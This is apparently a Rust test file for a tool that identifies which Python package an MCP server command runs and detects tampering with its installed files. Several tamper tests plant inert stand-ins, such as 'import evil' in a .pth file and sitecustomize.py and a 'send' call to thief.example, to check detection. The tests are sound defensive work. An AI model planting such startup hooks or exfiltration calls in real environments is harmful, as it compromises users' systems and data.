use super::*;

const PYTHON: &str = include_str!("../../../tests/fixtures/artefacts/python.layout");
const SITE: &str = ".cache/uv/archive-v0/one/lib/python3.12/site-packages";

/// The files of the first environment under other names.
fn another(place: &str, version: &str) -> String {
    let (first, _) = PYTHON.split_once("-> .cache/uv/environments-v2/3af0/77aa").expect("it has a link");
    first.replace(".cache/uv/archive-v0/one", place).replace("1.0.0.dist-info", &format!("{version}.dist-info"))
}

#[test]
fn uv_takes_the_highest_version_in_its_cache_that_fits() {
    let mut machine = Machine::new(PYTHON);
    for (line, expected) in [
        ("uvx mail-mcp", "uv-cache 1.0.0 files"),
        ("uvx Mail_MCP", "uv-cache 1.0.0 files"),
        ("uv tool run mail.mcp", "uv-cache 1.0.0 files"),
        ("uvx --from mail-mcp==1.0.0 mail-mcp", "uv-cache 1.0.0 files"),
        ("uvx mail-mcp@1.0", "uv-cache 1.0.0 files"),
        ("uvx mail-mcp>=0.9,<2", "uv-cache 1.0.0 files"),
        ("uvx mail-mcp==1.*", "uv-cache 1.0.0 files"),
        ("uvx mail-mcp==1.1", "unknown not-installed"),
        ("uvx mail-mcp>=2", "unknown not-installed"),
        // It came along with another package.
        ("uvx httpx", "unknown not-installed"),
        ("uvx --from git+https://git.example/acme/mail mail-mcp", &format!("uv-cache 9.0.0 git:{COMMIT}")),
        (
            &format!("uvx --from git+https://git.example/acme/mail@{COMMIT} mail-mcp"),
            &format!("uv-cache 9.0.0 git:{COMMIT}"),
        ),
        ("uvx --from git+https://git.example/acme/other mail-mcp", "unknown not-installed"),
    ] {
        assert_eq!(told(&machine.look(line, "")), expected, "{line}");
    }
    let then = machine.look("uvx mail-mcp", "");
    for (at, version) in ["1.10.0", "1.9.0", "2.0.0rc1"].iter().enumerate() {
        machine.unpack(&another(&format!(".cache/uv/archive-v0/more{at}"), version));
        machine.link(&format!(".cache/uv/environments-v2/3af0/{at}"), &format!("../../archive-v0/more{at}"));
    }
    let now = machine.look("uvx mail-mcp", "");
    assert_eq!(told(&now), "uv-cache 1.10.0 files");
    assert!(differ(&now, &then));
    assert!(!differ(&machine.look("uvx mail-mcp==1.0.0", ""), &then));
}

#[test]
fn an_installed_tool_comes_before_the_cache_where_its_version_fits() {
    let mut machine = Machine::new(PYTHON);
    machine.unpack(&another(".local/share/uv/tools/mail-mcp", "1.5.0"));
    for (line, expected) in [
        ("uvx mail-mcp", "uv-tool 1.5.0 files"),
        ("uvx mail-mcp==1.5.0", "uv-tool 1.5.0 files"),
        ("uvx mail-mcp==1.0.0", "uv-cache 1.0.0 files"),
        ("uvx mail-mcp@latest", "uv-cache 1.0.0 files"),
        ("uvx --isolated mail-mcp", "uv-cache 1.0.0 files"),
        ("uvx --with httpx mail-mcp", "uv-cache 1.0.0 files"),
    ] {
        assert_eq!(told(&machine.look(line, "")), expected, "{line}");
    }
    // A program of the tool's environment is the package, however it is called.
    machine.link(".local/bin/mail-mcp", "../share/uv/tools/mail-mcp/bin/mail-mcp");
    machine.env = vec![("PATH", machine.path(".local/bin").display().to_string())];
    let found = machine.look("mail-mcp --stdio", "");
    assert_eq!(told(&found), "environment 1.5.0 files");
    assert_eq!(found.evidence.file.expect("a file").location, Location::Installed);
}

#[test]
fn the_same_files_are_the_same_code_wherever_they_lie() {
    let mut machine = Machine::new(PYTHON);
    let then = machine.look("uvx mail-mcp", "");
    fs::remove_dir_all(machine.path(".cache/uv")).expect("the cache is emptied");
    // Made anew by another installer at another place: only what it writes of itself differs.
    let moved = another(".cache/uv/archive-v0/two", "1.0.0").replace("archive-v0/one", "archive-v0/two");
    machine
        .unpack(&moved.replace("INSTALLER,sha256=cccc", "INSTALLER,sha256=ffff").replace("sha256=dddd", "sha256=9999"));
    machine.link(".cache/uv/environments-v2/3af0/88bb", "../../archive-v0/two");
    assert!(!differ(&machine.look("uvx mail-mcp", ""), &then));
}

#[test]
fn files_that_differ_from_what_was_installed_are_other_code_though_the_record_is_the_same() {
    let mut machine = Machine::new(PYTHON);
    let then = machine.look("uvx mail-mcp", "");
    let program = ".cache/uv/archive-v0/one/bin/mail-mcp";
    for (name, text) in [
        (format!("{SITE}/mail_mcp/__init__.py"), "def main(): evil()\n"),
        (format!("{SITE}/httpx-0.27.0.dist-info/RECORD"), "httpx/__init__.py,sha256=0000,10\n"),
        (format!("{SITE}/evil.pth"), "import evil\n"),
        (format!("{SITE}/sitecustomize.py"), "import evil\n"),
        (program.to_owned(), "#!/x/python\nimport evil\n"),
    ] {
        let path = machine.path(&name);
        let before = fs::read_to_string(&path).ok();
        machine.write(&name, text);
        assert!(differ(&machine.look("uvx mail-mcp", ""), &then), "{name}");
        match before {
            Some(before) => machine.write(&name, &before),
            None => fs::remove_file(path).expect("it is removed"),
        }
        assert!(!differ(&machine.look("uvx mail-mcp", ""), &then), "{name} is as it was");
    }
    fs::remove_file(machine.path(&format!("{SITE}/mail_mcp/__init__.py"))).expect("it is removed");
    assert!(differ(&machine.look("uvx mail-mcp", ""), &then), "a file is gone");
}

#[test]
fn pipx_writes_what_was_asked_for_beside_the_environment_and_leaves_the_rest_to_uv() {
    let mut machine = Machine::new(PYTHON);
    assert_eq!(told(&machine.look("pipx run mail-mcp==1.2", "")), "pipx-cache 1.2 files");
    assert_eq!(told(&machine.look("pipx run --spec mail-mcp==1.2 other", "")), "pipx-cache 1.2 files");
    assert_eq!(told(&machine.look("pipx run mail-mcp", "")), "uv-cache 1.0.0 files");
}

#[test]
fn folders_are_where_the_environment_puts_them() {
    let mut machine = Machine::new(&PYTHON.replace(".cache/uv/", "moved/"));
    assert_eq!(told(&machine.look("uvx mail-mcp", "")), "unknown not-installed");
    let moved = machine.path("moved").display().to_string();
    assert_eq!(told(&machine.look(&format!("uvx --cache-dir {moved} mail-mcp"), "")), "uv-cache 1.0.0 files");
    let entry = json!({"command": "uvx", "args": ["mail-mcp"], "env": {"UV_CACHE_DIR": moved}});
    assert_eq!(told(&machine.look_at(entry, "")), "uv-cache 1.0.0 files");
    machine.env = vec![("UV_CACHE_DIR", moved)];
    assert_eq!(told(&machine.look("uvx mail-mcp", "")), "uv-cache 1.0.0 files");
}

#[test]
fn a_module_is_a_package_of_its_environment_or_a_file_of_the_project() {
    let mut machine = Machine::new(&another("app/.venv", "1.5.0"));
    machine.write("app/server/__main__.py", "run()\n");
    let python = machine.path("app/.venv/bin/python").display().to_string();
    assert_eq!(told(&machine.look(&format!("{python} -m mail_mcp.server"), "")), "environment 1.5.0 files");
    assert_eq!(told(&machine.look("python -m mail_mcp", "app")), "environment 1.5.0 files");
    assert_eq!(told(&machine.look("python -m server", "app")), "file - files");
    assert_eq!(told(&machine.look("python -m nothing", "app")), "unknown not-installed");
    assert_eq!(told(&machine.look("uv run mail-mcp", "app")), "environment 1.5.0 files");
    let app = machine.path("app").display().to_string();
    assert_eq!(told(&machine.look(&format!("uv --directory {app} run mail-mcp"), "")), "environment 1.5.0 files");
    assert_eq!(told(&machine.look("uv run other", "app")), "unknown not-installed");
}

/// A record is the package's own word: what it lists without a hash is code like the rest.
#[test]
fn a_file_without_a_hash_in_the_record_is_part_of_the_code() {
    let layout =
        PYTHON.replace("sha256=aaaa,17", ",").replace("httpx/__init__.py,sha256=eeee,10", "httpx/__init__.py,,");
    let mut machine = Machine::new(&layout);
    machine.write(&format!("{SITE}/httpx/__init__.py"), "get = 1\n");
    for file in ["mail_mcp/__init__.py", "httpx/__init__.py"] {
        let then = machine.look("uvx mail-mcp", "");
        assert_eq!(told(&then), "uv-cache 1.0.0 files");
        machine.write(&format!("{SITE}/{file}"), "send('copy@thief.example')\n");
        assert!(differ(&machine.look("uvx mail-mcp", ""), &then), "{file}");
    }
    // What Python compiles for itself says nothing.
    let then = machine.look("uvx mail-mcp", "");
    let record = format!("{SITE}/mail_mcp-1.0.0.dist-info/RECORD");
    let text = fs::read_to_string(machine.path(&record)).expect("it is there")
        + "mail_mcp/__pycache__/__init__.cpython-312.pyc,,\n";
    machine.write(&record, &text);
    assert!(!differ(&machine.look("uvx mail-mcp", ""), &then));
}
